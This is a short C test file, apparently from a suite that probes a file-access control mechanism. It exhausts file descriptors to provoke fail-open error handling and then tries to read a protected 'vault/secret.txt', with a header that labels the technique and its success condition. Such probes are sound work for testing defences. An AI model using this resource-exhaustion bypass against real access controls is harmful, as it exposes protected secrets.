/* technique: asks with no descriptor left, then with as many open as it may have
 * source: reference study: fail-open on errors; open(2), EMFILE
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "attack.h"
#include <sys/resource.h>

int main(void)
{
	struct rlimit limit;
	int last = -1;

	if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
		limit.rlim_cur = 64;
		setrlimit(RLIMIT_NOFILE, &limit);
	}
	for (int fd; (fd = open("public/secret.txt", O_RDONLY)) >= 0;)
		last = fd;
	if (open(SECRET_FILE, O_RDONLY) >= 0)
		return failed("more than the limit");
	close(last);
	return show_path(SECRET_FILE);
}
